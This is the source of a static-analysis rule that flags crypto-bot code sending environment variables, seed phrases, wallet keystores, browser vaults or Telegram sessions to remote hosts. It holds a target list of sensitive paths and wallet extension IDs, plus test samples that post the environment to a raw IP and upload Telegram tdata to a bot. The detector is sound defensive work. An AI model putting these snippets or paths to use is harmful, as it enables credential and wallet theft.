"""BOT504: the environment, wallet keystores, seed phrases, browser or Telegram session files
collected and sent to a remote host."""
from __future__ import annotations

from typing import Dict, List, Optional, Tuple

import libcst as cst

from ...analysis import names as name_kinds
from ...analysis.dataflow import HTTP, NOTIFY, SOCKET, DataFlow, SinkSite, Source, register_user
from ...analysis.hosts import is_local_host
from ...analysis.imports import dotted
from ...analysis.literals import literal_str
from ...analysis.payloads import host_kind
from ...analysis.strings import string_text
from ...analysis.syntax import LiteralPrecheck
from ...model import Severity
from ._family import Bot5Rule

# places a trading bot has no business reading (lower-case substrings of a path literal) ->
# what they hold, for the message
SENSITIVE_PATHS: Tuple[Tuple[str, str], ...] = (
    ("tdata", "Telegram Desktop sessions"),
    ("telegram desktop", "Telegram Desktop sessions"),
    ("login data", "browser saved passwords"),
    ("local state", "the browser's key store"),
    ("web data", "browser autofill data"),
    ("local storage", "browser extension storage"),
    ("local extension settings", "browser extension storage"),
    ("user data/default", "a browser profile"),
    ("user data\\default", "a browser profile"),
    ("leveldb", "browser extension storage"),
    ("network/cookies", "browser cookies"),
    ("network\\cookies", "browser cookies"),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "the MetaMask extension's vault"),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "the Phantom extension's vault"),
    ("ibnejdfjmmkpcnlpebklmnkoeoihofec", "the TronLink extension's vault"),
    ("egjidjbpglichdcondbcbdnbeeppgdph", "the Trust Wallet extension's vault"),
    ("fhbohimaelbohpjbbldcngcnapndodjp", "the Binance Wallet extension's vault"),
    ("hnfanknocfeofbddgcijnmhnfnkdnaad", "the Coinbase Wallet extension's vault"),
    ("wallet.dat", "a Bitcoin Core wallet"),
    ("keystore", "wallet keystores"),
    ("exodus", "the Exodus wallet"),
    ("electrum", "Electrum wallets"),
    ("atomic wallet", "the Atomic wallet"),
    ("metamask", "the MetaMask vault"),
    ("solana/id.json", "the Solana CLI keypair"),
    (".config/solana", "the Solana CLI keypair"),
    ("id_rsa", "SSH private keys"),
    ("id_ed25519", "SSH private keys"),
    (".ssh", "SSH private keys"),
    ("seed.txt", "a seed phrase file"),
    ("mnemonic.txt", "a seed phrase file"),
    (".aws/credentials", "AWS credentials"),
    ("filezilla", "FileZilla saved logins"),
)
PRECHECK = LiteralPrecheck(tuple(p for p, _ in SENSITIVE_PATHS) + ("environ", "dotenv", "mnemonic", "seed",
                                                                    "private_key", "privatekey"))
_SINKS = (HTTP, SOCKET, NOTIFY)


class HarvestAndExfiltrate(Bot5Rule):
    """## What it does
    Finds code that collects what a stealer collects and sends it to a remote host:

    - the whole process environment (`os.environ`, `dict(os.environ)`, `os.environ.copy()`,
      `dotenv_values()`) reaching an HTTP request, a socket or a chat/webhook message,
      anywhere but the local machine (the data flow follows it through variables, `json.dumps`
      and f-strings);
    - a wallet private key or seed phrase reaching a Telegram chat, a Discord webhook, a paste
      site, a raw IP address or an unknown host;
    - wallet keystores, browser profiles (saved passwords, extension vaults of MetaMask,
      Phantom, TronLink...), Telegram Desktop sessions (`tdata`) or SSH keys named in a function
      that also sends something to a host that is not an exchange.

    ## Why is this bad?
    A bot needs its own API key, not your whole environment, your browser's vaults or your
    Telegram sessions.  "Airdrop checkers" and "AI arbitrage bots" that steal crypto post
    exactly these to a Telegram bot or a Discord webhook the author reads.

    ## Example
    ```python
    requests.post("https://discord.com/api/webhooks/...", json={"env": dict(os.environ)})
    ```

    ## Use instead
    ```python
    api_key = os.environ["BINANCE_API_KEY"]  # read the one value the bot needs; send it nowhere
    ```

    ## Known problems
    Sensitive files are matched by the path literals the function names; a path assembled
    from decoded fragments elsewhere is not seen.  Flows are followed inside a module.

    ## References
    - [CWE-359: Exposure of Private Personal Information](https://cwe.mitre.org/data/definitions/359.html)
    - [Checkmarx: W4SP stealer in PyPI packages](https://checkmarx.com/blog/wasp-attack-on-python-polymorphic-malware-shipped-into-pypi/)
    """

    CODE = "BOT504"
    NAME = "harvest-and-exfiltrate"
    SEVERITY = Severity.CRITICAL
    CWE = 359
    MESSAGE = "Environment, wallet or session data collected and sent to a remote host"
    PRECHECK = PRECHECK
    ANALYSES = ("dataflow",)
    VALID = (
        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\n'
        'requests.get("https://api.binance.com/api/v3/account", headers={"X-MBX-APIKEY": key})\n',
        'import os, json\nwith open("env_dump.json", "w") as f:\n    json.dump(dict(os.environ), f)\n',
        'import json\nfrom web3 import Web3\nwith open("keystore/UTC--2024.json") as f:\n'
        '    account = Web3().eth.account.decrypt(json.load(f), password)\n',
    )
    INVALID = (
        'import os, requests\nrequests.post("http://203.0.113.7/c", json=dict(os.environ))\n',
        'import os, requests\n\ndef grab():\n    root = os.path.expandvars(r"%APPDATA%\\Telegram Desktop\\tdata")\n'
        '    requests.post("https://api.telegram.org/bot1/sendDocument", files={"document": open(root, "rb")})\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        self.func_stack: List[cst.CSTNode] = []
        # enclosing top-level function (or None) -> what sensitive places it names
        self.sensitive: Dict[Optional[int], List[Tuple[cst.CSTNode, str]]] = {}
        self.call_scope: Dict[int, Optional[int]] = {}
        self.constants: Dict[str, str] = {}  # module-level names bound to a sensitive place
        # scopes that gather files (glob, os.walk, zip, copy, binary reads): a path named where
        # nothing is gathered and nothing is uploaded is only a path (a keystore loaded to sign)
        self.collecting: set = set()

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.func_stack.append(node)

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self.func_stack.pop()

    def _scope(self) -> Optional[int]:
        return id(self.func_stack[0]) if self.func_stack else None

    def visit_Call(self, node: cst.Call) -> None:
        self.call_scope[id(node)] = self._scope()
        if _collects(node, self.ctx.qualified(node.func) or dotted(node.func) or ""):
            self.collecting.add(self._scope())

    def visit_Assign(self, node: cst.Assign) -> None:
        """``EXT = "nkbihf..."`` at module level: a function naming ``EXT`` names the place."""
        if self.func_stack or len(node.targets) != 1 or not isinstance(node.targets[0].target, cst.Name):
            return
        text = (string_text(node.value) or "").lower() if isinstance(
            node.value, (cst.SimpleString, cst.FormattedString, cst.ConcatenatedString)) else ""
        what = _sensitive(text)
        if what:
            self.constants[node.targets[0].target.value] = what

    def visit_Name(self, node: cst.Name) -> None:
        what = self.constants.get(node.value)
        if what and self.func_stack:
            self.sensitive.setdefault(self._scope(), []).append((node, what))

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        self._path(node)

    def visit_FormattedString(self, node: cst.FormattedString) -> None:
        self._path(node)

    def _path(self, node: cst.CSTNode) -> None:
        what = _sensitive((string_text(node) or "").lower())
        if what:
            self.sensitive.setdefault(self._scope(), []).append((node, what))

    def leave_Module(self, original_node: cst.Module) -> None:
        flow = DataFlow.shared(self.ctx)
        reported: set = set()
        for site in flow.sites(*_SINKS):
            host = site.host
            if host and is_local_host(host):
                continue
            where = _where(site)
            sources = flow.taint(site) if (site.node is not None) else []
            env = next((s for s in sources if _environment(s)), None)
            if env is not None:
                self.report(site.node, f"sends {env.label} ({env.origin}) {where}")
                reported.add(id(site.node))
                continue
            keys = [s for s in sources if s.strong and s.kind in (name_kinds.MNEMONIC, name_kinds.PRIVATE_KEY)]
            if keys and (host is None or host_kind(host) != "an exchange") and _exfil_host(site):
                self.report(site.node, f"sends {keys[0].label} (a wallet {_kind_text(keys[0].kind)}) {where}")
                reported.add(id(site.node))
                continue
            typed = [s for s in sources if s.origin.startswith("an interactive prompt")]
            if typed and _drop_host(site):
                self.report(site.node, f"sends what the user typed at a credential prompt ({typed[0].label}) {where}")
                reported.add(id(site.node))
                continue
            scope = self.call_scope.get(id(site.node), -1) if isinstance(site.node, cst.Call) else -1
            found = self.sensitive.get(scope) if scope != -1 else None
            if found and id(site.node) not in reported and (host is None or host_kind(host) != "an exchange") \
                    and (scope in self.collecting or _uploads(site)):
                whats = sorted({w for _n, w in found})
                self.report(site.node, f"sends data from {', '.join(whats[:3])} {where}")
                reported.add(id(site.node))


_GATHER = frozenset(("glob.glob", "glob.iglob", "os.walk", "os.listdir", "os.scandir", "zipfile.ZipFile",
                     "shutil.make_archive", "shutil.copytree", "shutil.copy", "shutil.copy2", "shutil.copyfile",
                     "tarfile.open", "py7zr.SevenZipFile"))
_GATHER_METHODS = ("rglob", "glob", "iterdir", "read_bytes")


def _collects(call: cst.Call, name: str) -> bool:
    """Files gathered: a walk, a glob, an archive, a copy, a binary read, or the text of a
    sensitive file read directly (``open("seed.txt").read()``)."""
    if name in _GATHER:
        return True
    if isinstance(call.func, cst.Attribute) and call.func.attr.value in _GATHER_METHODS:
        return True
    if isinstance(call.func, cst.Attribute) and call.func.attr.value in ("read", "read_text") \
            and isinstance(call.func.value, cst.Call) and call.func.value.args:
        opened = call.func.value.args[0].value
        return bool(_sensitive((string_text(opened) or "").lower())) if isinstance(
            opened, (cst.SimpleString, cst.FormattedString, cst.ConcatenatedString)) else False
    if name == "open" and len(call.args) > 1:
        mode = literal_str(call.args[1].value) or ""
        return "b" in mode and "r" in mode
    return False


def _uploads(site: SinkSite) -> bool:
    """The request carries a file (``files=``, a document upload)."""
    call = site.call if site.call is not None else site.node
    if not isinstance(call, cst.Call):
        return False
    if any(a.keyword is not None and a.keyword.value in ("files", "document", "file") for a in call.args):
        return True
    return isinstance(call.func, cst.Attribute) and call.func.attr.value in (
        "sendDocument", "send_document", "upload", "upload_file", "storbinary", "files_upload", "files_upload_v2")


def _sensitive(text: str) -> str:
    """What a (lower-cased) path literal points at, or ""."""
    if not text or len(text) > 400:
        return ""
    for needle, what in SENSITIVE_PATHS:
        if needle in text and _pathish(text, needle):
            return what
    return ""


def _environment(src: Source) -> bool:
    """The whole environment (the flag is dropped once it is iterated: ``{k: v for k, v in
    os.environ.items()}`` is still all of it)."""
    return src.env or src.label in ("the process environment", "dotenv_values()")


def _pathish(text: str, needle: str) -> bool:
    """The needle sits in a path or a file name, not in prose (``"keystore"`` in a path, not
    in "unlock your keystore with the password")."""
    if any(c in needle for c in "/\\."):
        return True
    return any(c in text for c in "/\\%~") or text.strip() == needle or text.endswith((".json", ".dat", ".txt", ".db"))


def _kind_text(kind: str) -> str:
    return "seed phrase" if kind == name_kinds.MNEMONIC else "private key"


def _exfil_host(site: SinkSite) -> bool:
    """A chat, webhook, paste site, raw IP or unknown host (not an RPC provider's API)."""
    if site.kind == NOTIFY or site.host is None:
        return True
    return host_kind(site.host) in ("the Telegram bot API", "Discord", "a raw IP address", "a paste or file-drop site",
                                    "an unknown host", "a notification service")


def _drop_host(site: SinkSite) -> bool:
    """A chat, webhook, paste site or raw IP: where a typed credential has no business."""
    if site.kind == NOTIFY:
        return True
    return site.host is not None and host_kind(site.host) in (
        "the Telegram bot API", "Discord", "a raw IP address", "a paste or file-drop site", "a notification service")


def _where(site: SinkSite) -> str:
    if site.host:
        return f"to {host_kind(site.host)} ({site.host}) through {site.what}"
    return f"through {site.what}"


register_user(HarvestAndExfiltrate.CODE)  # the data flow walks in runs that enable BOT504
